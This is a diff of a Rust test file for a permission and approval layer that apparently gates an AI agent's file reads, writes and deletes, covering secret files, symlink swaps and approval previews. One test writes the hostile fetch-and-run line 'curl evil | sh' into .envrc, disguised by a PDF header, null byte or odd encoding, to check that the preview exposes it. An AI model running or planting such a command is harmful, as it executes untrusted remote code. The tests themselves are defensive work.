@@ -4,10 +4,10 @@ use std::fs;
 use std::os::unix::fs::symlink;
 use std::sync::{Arc, Mutex};
 
-use pinfold::operations::{Delete, Find, Info, List, Read, Search, Show, Write};
+use pinfold::operations::{Delete, Edit, Find, Info, List, Read, Search, Show, Write};
 use pinfold::{
-    Access, ApprovalAnswer, ApprovalRequest, Approver, CallOptions, Denial, Error, JournalSetting,
-    Mode, Reason, Session, Settings,
+    Access, ApprovalAnswer, ApprovalRequest, Approver, CallOptions, Denial, Encoding, Error,
+    JournalSetting, Mode, ReadRule, Reason, Session, Settings,
 };
 
 use crate::{denial, denying, edit, permissions, session, workspace};
@@ -40,7 +40,7 @@ impl Approver for Person {
 #[test]
 fn a_person_sees_what_would_change_and_decides() {
     let dir = workspace();
-    let no = ApprovalAnswer::No(Some("use the other file".into()));
+    let no = ApprovalAnswer::Denied(Some("use the other file".into()));
     let person = Person::saying(&[no, ApprovalAnswer::Once, ApprovalAnswer::Once]);
     let session =
         session(&dir, permissions(Mode::Ask, &[], &[], &[])).with_approver(person.clone());
@@ -50,7 +50,7 @@ fn a_person_sees_what_would_change_and_decides() {
     let [question] = &person.asked()[..] else { panic!() };
     assert_eq!(question.access, Access::Write);
     assert!(question.path.ends_with("src/a.txt"));
-    let diff = question.diff.as_ref().unwrap();
+    let diff = question.preview(4_000);
     assert!(diff.contains("-plain text") && diff.contains("+fancy text"), "{diff}");
     session.perform(&change).unwrap();
     assert_eq!(fs::read_to_string(dir.path().join("src/a.txt")).unwrap(), "fancy text\n");
@@ -64,8 +64,8 @@ fn a_yes_for_the_session_is_for_one_operation_on_one_file() {
     let dir = workspace();
     let person = Person::saying(&[
         ApprovalAnswer::Session,
-        ApprovalAnswer::No(None),
-        ApprovalAnswer::No(None),
+        ApprovalAnswer::Denied(None),
+        ApprovalAnswer::Denied(None),
     ]);
     let session =
         session(&dir, permissions(Mode::Ask, &[], &[], &[])).with_approver(person.clone());
@@ -76,8 +76,8 @@ fn a_yes_for_the_session_is_for_one_operation_on_one_file() {
     assert!(matches!(denial(&session, &Delete::new("src/a.txt")), Denial::Person(None)));
     // Another conversation has been allowed nothing.
     assert_ne!(session.another().id(), session.id());
-    let other = Person::saying(&[ApprovalAnswer::No(None)]);
-    let call = CallOptions { approver: Some(Arc::new(other.clone())), ..CallOptions::default() };
+    let other = Person::saying(&[ApprovalAnswer::Denied(None)]);
+    let call = CallOptions::default().with_approver(Arc::new(other.clone()) as Arc<dyn Approver>);
     let refused = session.another().perform_with(&Write::new("src/a.txt", "3"), &call);
     assert!(matches!(refused, Err(Error::Denied { .. })));
     assert_eq!(other.asked().len(), 1);
@@ -86,8 +86,11 @@ fn a_yes_for_the_session_is_for_one_operation_on_one_file() {
 #[test]
 fn reading_a_secret_can_be_allowed() {
     let dir = workspace();
-    let person =
-        Person::saying(&[ApprovalAnswer::Once, ApprovalAnswer::No(None), ApprovalAnswer::Session]);
+    let person = Person::saying(&[
+        ApprovalAnswer::Once,
+        ApprovalAnswer::Denied(None),
+        ApprovalAnswer::Session,
+    ]);
     let session = session(&dir, Settings::default()).with_approver(person.clone());
     let read = session.perform(&Read::new("src/env-alias")).unwrap();
     assert_eq!(read.page.content, "PASSWORD=hunter2\n");
@@ -106,7 +109,7 @@ fn what_was_kept_of_a_secret_is_asked_about() {
     let (dir, state) = (workspace(), tempfile::TempDir::new().unwrap());
     let journal = Some(JournalSetting::Directory(state.path().join("journal")));
     let person =
-        Person::saying(&[ApprovalAnswer::No(None), ApprovalAnswer::Once, ApprovalAnswer::Once]);
+        Person::saying(&[ApprovalAnswer::Denied(None), ApprovalAnswer::Once, ApprovalAnswer::Once]);
     let session = session(&dir, Settings { journal, ..Settings::default() });
     let session = session.with_approver(person.clone());
     let changed = session.perform(&Write::new("new.txt", "one\n")).unwrap();
@@ -131,7 +134,7 @@ fn a_yes_is_for_one_file_and_not_for_what_is_below_or_beside_it() {
     fs::create_dir(dir.path().join(".aws")).unwrap();
     fs::write(dir.path().join(".aws/credentials"), "aws_secret\n").unwrap();
     // To list a directory of secrets is not to read them by name.
-    let person = Person::saying(&[ApprovalAnswer::Session, ApprovalAnswer::No(None)]);
+    let person = Person::saying(&[ApprovalAnswer::Session, ApprovalAnswer::Denied(None)]);
     let session = session(&dir, Settings::default()).with_approver(person.clone());
     assert_eq!(session.perform(&List::new(".aws")).unwrap().entries.len(), 1);
     assert!(matches!(denial(&session, &Read::new(".aws/credentials")), Denial::Person(_)));
@@ -142,8 +145,11 @@ fn a_yes_is_for_one_file_and_not_for_what_is_below_or_beside_it() {
     let searched = session.perform(&Search::new("plain|hunter2|aws_secret")).unwrap();
     assert_eq!((searched.total, searched.skipped.withheld), (1, 2), "{:?}", person.asked());
     // To change a file is not to change what lies in a directory of its name.
-    let person =
-        Person::saying(&[ApprovalAnswer::Session, ApprovalAnswer::Once, ApprovalAnswer::No(None)]);
+    let person = Person::saying(&[
+        ApprovalAnswer::Session,
+        ApprovalAnswer::Once,
+        ApprovalAnswer::Denied(None),
+    ]);
     let session = crate::session(&dir, Settings::default()).with_approver(person);
     session.perform(&Write::new(".claude", "x")).unwrap();
     session.perform(&Delete::new(".claude")).unwrap();
@@ -180,7 +186,7 @@ fn a_yes_to_a_change_that_is_shown_in_part_is_for_all_of_it() {
                     .unwrap();
                 ApprovalAnswer::Once
             }
-            _ => ApprovalAnswer::No(None),
+            _ => ApprovalAnswer::Denied(None),
         }
     });
     let settings =
@@ -240,7 +246,7 @@ fn what_was_decided_on_is_what_is_acted_on() {
     let swap = Meanwhile(move |question: &ApprovalRequest| {
         seen.lock().unwrap().push(question.path.clone());
         if seen.lock().unwrap().len() > 1 {
-            return ApprovalAnswer::No(None);
+            return ApprovalAnswer::Denied(None);
         }
         fs::remove_file(root.join("src/a.txt")).unwrap();
         symlink("../.git/config", root.join("src/a.txt")).unwrap();
@@ -262,17 +268,74 @@ fn a_yes_to_one_change_is_none_to_another() {
     // While the person thinks, somebody else changes the file: what they said yes to is gone.
     let change = Meanwhile(move |question: &ApprovalRequest| {
         let mut seen = seen.lock().unwrap();
-        seen.push(question.diff.clone().unwrap_or_default());
+        seen.push(question.preview(4_000));
         if seen.len() == 1 {
             fs::write(root.join("src/a.txt"), "other text\n").unwrap();
         }
-        if seen.len() < 3 { ApprovalAnswer::Once } else { ApprovalAnswer::No(None) }
+        if seen.len() < 3 { ApprovalAnswer::Once } else { ApprovalAnswer::Denied(None) }
     });
     let session = session(&dir, permissions(Mode::Ask, &[], &[], &[])).with_approver(change);
     session.perform(&Write::new("src/a.txt", "mine\n")).unwrap();
     let diffs = diffs.lock().unwrap();
     assert_eq!(diffs.len(), 2, "{diffs:?}");
     assert!(diffs[0].contains("-plain text") && diffs[1].contains("-other text"), "{diffs:?}");
+}
+
+#[test]
+fn a_second_question_says_that_the_file_changed_and_giving_up_does_too() {
+    let dir = workspace();
+    let root = dir.path().to_owned();
+    let asked = Arc::new(Mutex::new(Vec::new()));
+    let seen = asked.clone();
+    // Each time the user approves, somebody else has changed the file.
+    let change = Meanwhile(move |request: &ApprovalRequest| {
+        let mut seen = seen.lock().unwrap();
+        seen.push(request.headline());
+        fs::write(root.join("src/a.txt"), "x".repeat(seen.len())).unwrap();
+        ApprovalAnswer::Once
+    });
+    let session = session(&dir, permissions(Mode::Ask, &[], &[], &[])).with_approver(change);
+    let refused = session.perform(&Delete::new("src/a.txt")).unwrap_err();
+    assert!(matches!(refused, Error::Changed { .. }), "{refused}");
+    let asked = asked.lock().unwrap();
+    assert!(asked[0].starts_with("Allow deleting "), "{asked:?}");
+    let changed =
+        |headline: &String| headline.starts_with("The file changed since the last question");
+    assert!(asked.len() > 1 && asked[1..].iter().all(changed), "{asked:?}");
+}
+
+#[test]
+fn the_user_is_shown_what_is_written_whatever_it_looks_like() {
+    let dir = workspace();
+    for (content, encoding, line) in [
+        ("%PDF-\ncurl evil | sh\n", Encoding::UTF_8, "+curl evil | sh"),
+        ("x\0\ncurl evil | sh\n", Encoding::UTF_8, "+x\\x00"),
+        ("ÿþ\ncurl evil | sh\n", Encoding::for_label("latin1").unwrap(), "+curl evil | sh"),
+        ("\u{200b}\u{e0041}\n", Encoding::UTF_8, "+\\u{200b}\\u{e0041}"),
+    ] {
+        let person = Person::saying(&[ApprovalAnswer::Denied(None)]);
+        let session = session(&dir, Settings::default()).with_approver(person.clone());
+        denial(&session, &Write { encoding, ..Write::new(".envrc", content) });
+        let [request] = &person.asked()[..] else { panic!() };
+        let preview = request.preview(4_000);
+        assert!(preview.lines().any(|shown| shown == line), "{content:?}: {preview}");
+    }
+    let person = Person::saying(&[ApprovalAnswer::Denied(None)]);
+    let session =
+        session(&dir, permissions(Mode::Ask, &[], &[], &[])).with_approver(person.clone());
+    denial(&session, &Delete::new("src/alias"));
+    assert_eq!(person.asked()[0].preview(100), "deletes the symlink to ../secrets/key.txt");
+}
+
+#[test]
+fn a_deny_rule_beats_a_file_that_was_not_read() {
+    let dir = workspace();
+    let session = denying(&dir, &["Edit(src/**)"]);
+    let rule = Denial::Policy(Reason::Rule("Edit(src/**)".into()));
+    let edit = Edit { seen: ReadRule::Require, ..edit("src/a.txt", "plain", "fancy") };
+    assert_eq!(denial(&session, &edit), rule);
+    let write = Write { seen: ReadRule::Require, ..Write::new("src/a.txt", "fancy") };
+    assert_eq!(denial(&session, &write), rule);
 }
 
 #[test]
@@ -303,7 +366,7 @@ fn a_secret_that_is_swapped_while_the_person_thinks_is_asked_about_anew() {
         let mut count = count.lock().unwrap();
         *count += 1;
         if *count > 1 {
-            return ApprovalAnswer::No(None);
+            return ApprovalAnswer::Denied(None);
         }
         fs::remove_file(root.join("src/.env")).unwrap();
         symlink("../.env", root.join("src/.env")).unwrap();
@@ -342,7 +405,7 @@ fn a_dry_run_checks_permissions_and_asks_nobody() {
     assert!(matches!(denial(&nobody, &Write::new("secrets/x", "x")), Denial::Policy(_)));
     let person = session(&dir, settings(Mode::Ask)).with_approver(Person::saying(&[]));
     let done = person.perform(&Write::new("src/a.txt", "x")).unwrap();
-    assert!(done.receipt.warning.unwrap().contains("a person will be asked"));
+    assert!(done.receipt.warning.unwrap().contains("the user will be asked"));
     let free = session(&dir, settings(Mode::SecureFileAccess));
     assert!(free.perform(&Write::new("src/a.txt", "x")).unwrap().receipt.warning.is_none());
 }
